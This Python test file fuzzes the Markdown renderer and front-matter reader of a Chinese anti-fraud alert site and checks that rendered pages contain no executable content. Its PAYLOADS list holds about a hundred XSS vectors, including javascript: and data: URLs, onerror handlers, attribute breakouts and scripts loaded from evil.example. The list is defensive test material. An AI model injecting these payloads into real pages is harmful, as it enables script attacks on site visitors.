"""Strangers' bytes: nothing raises, nothing takes long, every unreadable file is named, and no body becomes a program."""

from __future__ import annotations

import datetime as dt
import html
import random
import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from pubhub.content.body import BOXES, scan
from pubhub.markup.render import Renderer
from pubhub.markup.resolve import resolve
from pubhub.markup.rewrite import Place
from pubhub.pictures import Shown
from pubhub.press import read_tree
from tests.support import BOTH, approved, picture, seeded, valid, write

TODAY = dt.date(2026, 11, 24)
SLOW = 2.0
"""Seconds for one file."""
PLACE = Place({"p.png": Shown("assets/media/p-0123456789ab.webp", 8, 6)}, ("96110", "95588"))
TAGS = set(
    re.findall(
        r"\w+",
        "a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd"
        " li mark ol p pre q s small span strong sub summary sup table tbody td tfoot th thead tr u ul",
    )
)
BODY = f"""先挂断，再拨 96110。见[另一篇](XB-2026-0101#s-1)和[网站](https://example.cn/a_(b) "标题")。

!!! scam "骗子怎么说"
    “转账到**安全账户**。”

    - 甲
    - 乙

??? {BOXES["law"]}
    条文。

## 怎样识别

1. 第一步 `code`
2. 第二步[^1]

| 甲 | 乙 |
|:---|---:|
| ==1== | ~~2~~ |

```python
print("<script>")
```

![图](p.png "标题")

> 引文

术语
:   解释

*[HTML]: 超文本

[^1]: 说明。
"""
PIECES = [
    *"[](){}<>!?*_`~^=|#>-:;\"'\\&%@,. \t\n，。：；（）《》“”、—…",
    *(
        "\n\n",
        "---\n",
        "```\n",
        "~~~\n",
        "!!! scam",
        "???",
        "- ",
        "1. ",
        "    ",
        "| a |",
        "|-|-|",
        "[^1]",
        "[^1]: ",
        "*[a]: ",
    ),
    *(
        "](",
        "![",
        "<script>",
        "<!--",
        "-->",
        "javascript:",
        "&#x6a;",
        "\x00",
        "\u202e",
        "\u200b",
        "\ufeff",
        "\u2028",
        "\x02",
        "\x03",
    ),
    *(
        "klzzwxh:0000",
        "{{",
        "}}",
        "{%",
        "XB-2026-0101",
        "13812345678",
        "96110",
        "title: ",
        "title：",
        "&a ",
        "*a ",
        "!!python/none ",
    ),
]


def mutations(text: str, dice: random.Random, count: int) -> Iterator[bytes]:
    """Damaged copies: random bytes, truncations, swapped and repeated lines, repeated marks, pieces that mean something."""
    data = text.encode()
    lines = text.split("\n")
    for _ in range(count):
        kind = dice.randrange(7)
        at = dice.randrange(len(data))
        if kind == 0:
            yield data[:at] + dice.randbytes(dice.randint(1, 9)) + data[at + dice.randint(0, 9) :]
        elif kind == 1:
            yield data[:at]
        elif kind == 2:
            mixed = lines[:]
            for _ in range(dice.randint(1, 9)):
                a, b = dice.randrange(len(mixed)), dice.randrange(len(mixed))
                mixed[a], mixed[b] = mixed[b], mixed[a]
            yield "\n".join(mixed).encode()
        elif kind == 3:
            number = dice.randrange(len(lines))
            yield "\n".join([*lines[:number], *[lines[number]] * dice.randint(2, 300), *lines[number:]]).encode()
        elif kind == 4:
            place = dice.randrange(len(text))
            yield (text[:place] + dice.choice(PIECES) * dice.randint(1, 400) + text[place:]).encode()
        else:
            made = text
            for _ in range(dice.randint(2, 40)):
                place = dice.randrange(len(made))
                made = made[:place] + "".join(dice.choices(PIECES, k=dice.randint(1, 4))) + made[place:]
            yield made.encode()


def test_damaged_files(tmp_path: Path) -> None:
    dice = seeded("damaged files")
    text = approved(
        valid(status="published", body=BODY, related="[XB-2026-0102]"), *BOTH, pictures={"p.png": picture()}
    )
    files: dict[str, str | bytes] = {}
    for number, data in enumerate(mutations(text, dice, 500)):
        files[f"alerts/2026/m{number}/index.md"] = data
        files[f"alerts/2026/m{number}/p.png"] = picture()
    root = write(tmp_path / "content", files)
    start = time.process_time()
    tree = read_tree(root, TODAY)
    assert time.process_time() - start < 500 * SLOW / 20
    named = {p.path for p in tree.problems if p.level == "error"}
    read = {one.item.origin.uri for one in tree.loaded}
    assert {name for name in files if name.endswith(".md")} <= named | read
    for problem in tree.problems:
        for lang in ("zh", "en"):
            line = problem.text(lang)
            assert line.isprintable(), line
            assert len(line) < 900
    renderer = Renderer()
    for one in tree.loaded:
        rendered(renderer, one.body)


def test_damaged_bodies() -> None:
    """What the gate lets through can be shown, quickly and harmlessly."""
    dice = seeded("damaged bodies")
    renderer = Renderer()
    passed = 0
    for data in mutations(BODY, dice, 700):
        body = data.decode("utf-8", errors="replace")
        if all(p.level != "error" for p in scan(body, "", 1).problems):
            rendered(renderer, body)
            passed += 1
    assert passed > 90


def shown(renderer: Renderer, body: str) -> str:
    """A body as it stands on a page."""
    links = {"XB-2026-0101": "b.html"}
    return resolve(renderer.render(body, PLACE).html, lambda id_: links.get(id_, ""), lambda file: f"../../{file}")


def rendered(renderer: Renderer, body: str) -> str:
    start = time.process_time()
    found = shown(renderer, body)
    assert time.process_time() - start < SLOW, body[:200]
    assert Looker(found).bad == []
    return found


# One file each that grows where a reader of Markdown or YAML is weak. 60 kB of it must be refused or shown in time.
GROWING = [
    *(
        "[a",
        "[a](b",
        "[a](",
        '[a](b "c',
        "![a](b",
        "[a][b]",
        "[[a]",
        "](",
        "*a",
        "**a *b ",
        "_a ",
        "__a_b ",
        "~a",
        "~~a ",
        "^a",
        "==a ",
    ),
    *(
        "`a``b",
        "<",
        "<a ",
        "<!--",
        "<!-- a\n",
        "&",
        "&#",
        "\\[",
        "\\",
        "> ",
        ">\n",
        "- a\n",
        "- a\n\n",
        "1. a\n",
        "|a",
        "a|b\n",
        "|-|\n",
    ),
    *(
        "[^a]",
        "[^a]: x\n\n",
        "*[a]: b\n",
        "```\na\n```\n",
        "```a\n",
        "~~~a\n",
        "- ```\n",
        '!!! scam "a"\n',
        "??? scam\n    a\n",
    ),
    *(
        "---\n",
        "a\n---\n",
        "# a\n",
        "a\n:   b\n",
        ":   a\n",
        "\n",
        " \n",
        "\t",
        "<http:",
        "http://a ",
        "95588 ",
        "[a]: b\n",
        "[a]:\n",
        "转",
    ),
    *(
        "<br>",
        "`a` ",
        "a  \n",
        "*_`~^=<!",
        "- [ ] a\n",
        "a:\n",
        "=",
        "<a b=",
        "<a on",
        "{{ a",
        "{%",
        "!!!\n",
        "13812345678 ",
        "1 ",
    ),
    *(
        "-\n  ",
        "? ",
        "a: ",
        "a:\n ",
        "{a: ",
        "[",
        "[\n",
        "&a [",
        "- - ",
        '"',
        "'",
        "#",
        "— ",
        "title：\n",
        "<\n",
        "[a](\n",
    ),
]


@pytest.mark.parametrize("unit", GROWING)
def test_growing_texts(unit: str) -> None:
    renderer = Renderer()
    long, short = (unit * (size // len(unit)) for size in (60_000, 2_000))
    for text in (long, short, "正文 " + short, f"{short}\n\n{unit}"):
        start = time.process_time()
        problems = scan(text, "", 1).problems
        assert time.process_time() - start < SLOW
        if all(p.level != "error" for p in problems):
            rendered(renderer, text)


def test_growing_front_matter(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {}
    for number, unit in enumerate(GROWING):
        text = unit * (15_000 // len(unit))
        files[f"alerts/2026/a{number}/index.md"] = f"---\n{text}\n---\n\n正文。\n"
        files[f"alerts/2026/b{number}/index.md"] = valid(extra=text.replace("\n", "\n  "))
        files[f"alerts/2026/c{number}/index.md"] = valid(title=text.replace("\n", "\n  "))
    root = write(tmp_path, files)
    start = time.process_time()
    tree = read_tree(root, TODAY)
    assert time.process_time() - start < 5
    named = {p.path for p in tree.problems if p.level == "error"}
    assert set(files) <= named | {one.item.origin.uri for one in tree.loaded}


class Looker(HTMLParser):
    """Sees a page as a browser does, and what must not be there."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.tags: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            target = re.sub(r"[\x00-\x20\u00a0]", "", html.unescape(html.unescape(value or ""))).lower()
            if name.startswith("on") or name in {
                "style",
                "srcdoc",
                "srcset",
                "formaction",
                "action",
                "background",
                "data",
                "xlink:href",
            }:
                self.bad.append(f"{tag} {name}")
            if name in {"href", "src"} and not re.match(
                r"(https?:|mailto:|tel:[0-9+]|#|(\.\./)*[a-z0-9][^:#]*(#.*)?$)", target
            ):
                self.bad.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and not target.startswith("../../assets/media/"):
                self.bad.append(f"img {value}")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(decl)

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"comment {data}")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"pi {data}")


PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<IMG SRC=javascript:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<form action="javascript:alert(1)"><input type=submit></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<style>@import '//evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<p style="position:fixed;inset:0">x</p>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<title></title><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<br onclick=alert(1)>
<kbd onmouseover=alert(1)>x</kbd>
<sup/onclick=alert(1)>x</sup>
<mark style=color:red>x</mark>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1) )
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\evil.example)
[x](/\evil.example)
[x](https:javascript:alert(1))
[x](pubhub-neutral:XB-2026-0101)
[x](PubHub-Neutral:x)
[x](pubhub-neutral:XB-2026-0101#" onclick="x)
[x](https://a" onclick="alert(1))
[x](https://a "t" onclick="alert(1)")
[x](https://a '"><script>alert(1)</script>')
[x](https://a "&quot;><script>alert(1)</script>")
[<script>alert(1)</script>](https://a)
[![x](p.png" onerror="alert(1))](javascript:alert(1))
![x](javascript:alert(1))
![x](https://evil.example/x.png)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x" onerror="alert(1)](p.png)
![x](p.png "x" onerror="alert(1)")
![x](p.png 'x"><script>alert(1)</script>')
![x][r]

[r]: javascript:alert(1) "x"
[x][s]

[s]: <javascript:alert(1)>
<javascript:alert(1)>
<https://a"onclick="alert(1)>
<x@y.z"onclick=alert(1)>
[x](XB-2026-0101#"><script>alert(1)</script>)
[x](XB-2026-0101#" onclick="alert(1))
[x](#" onclick="alert(1))
# <script>alert(1)</script>
# x {: onclick=alert(1) }
## " onmouseover="alert(1)
!!! scam "<script>alert(1)</script>"
    x
!!! scam "x" onclick="alert(1)"
    x
!!! scam" onclick="alert(1)
    x
??? "x"><script>alert(1)</script>
    x
```" onclick="alert(1)
x
```
```html onclick=alert(1)
<script>alert(1)</script>
```
``` {.x onclick="alert(1)" style="x"}
x
```
~~~ {: #x onclick=alert(1) }
x
~~~
| <script>alert(1)</script> |
|---|
| <img src=x onerror=alert(1)> |
*[HTML]: "><script>alert(1)</script>

HTML
*[x" onclick="alert(1)]: y

x" onclick="alert(1)
x[^1]

[^1]: <script>alert(1)</script> [y](javascript:alert(1))
x[^"><script>]

[^"><script>]: y
- [ ] <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
`<script>`</script><script>alert(1)</script>
klzzwxh:0000<script>alert(1)</script>
&nbsp;href="pubhub-neutral:XB-2026-0101#><script>alert(1)</script>"
95588"><script>alert(1)</script>
==<script>alert(1)</script>== ^^<svg onload=alert(1)>^^ ~~<iframe>~~
"""


def payloads() -> list[str]:
    """One a line; indented lines and what follows a blank line belong to the one before."""
    found: list[str] = []
    for line in PAYLOADS.strip().split("\n"):
        goes_on = found and (line.startswith("    ") or line == "" or found[-1].endswith("\n") or _fenced(found[-1]))
        starts_new = not goes_on
        if starts_new:
            found.append(line)
        else:
            found[-1] += "\n" + line
    return found


def _fenced(text: str) -> bool:
    first = text.split("\n")[0]
    mark = re.match(r"`{3}|~{3}", first)
    return (
        bool(mark) and not (text.count("\n") and text.endswith("\n" + mark[0]))
        if mark
        else first.startswith("| ") and text.count("\n") < 2
    )


CONTROL = [
    "\x02klzzwxh:0\x03",
    "\x02wzxhzdk:0\x03<script>",
    "[x](java\x00script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "\x02amp\x03<script>",
    "\x02106\x03avascript:",
]
WRAPS = [
    "{}",
    "> {}",
    "- {}",
    "1. 甲\n\n    {}",
    "**{}**",
    "*{}*",
    "# {}",
    "| {} |\n|---|\n| {} |",
    "!!! scam\n    {}",
    "[{}](https://a)",
    "甲{}乙",
    "术语\n:   {}",
    "<sup>{}</sup>",
]


def test_no_payload_becomes_a_program() -> None:
    renderer = Renderer()
    assert len(payloads()) >= 90
    found = []
    for payload in [*payloads(), *CONTROL]:
        for wrap in WRAPS:
            text = wrap.replace("{}", payload)
            looked = Looker(shown(renderer, text))
            found += [(text, looked.bad)] if looked.bad else []
    assert found == []


def test_what_is_meant_to_work_still_does() -> None:
    looked = Looker(shown(Renderer(), BODY))
    assert looked.bad == []
    assert {"a", "img", "table", "details", "dl", "ol", "pre", "h2", "blockquote", "mark", "del", "sup"} <= set(
        looked.tags
    )


@pytest.mark.parametrize(
    "payload",
    [p for p in payloads() if re.match(r"<(?:script|iframe|svg|object|form|style|meta|base)\b", p, re.IGNORECASE)],
)
def test_the_gate_names_programs(payload: str) -> None:
    assert any(p.level == "error" for p in scan(payload, "", 1).problems)
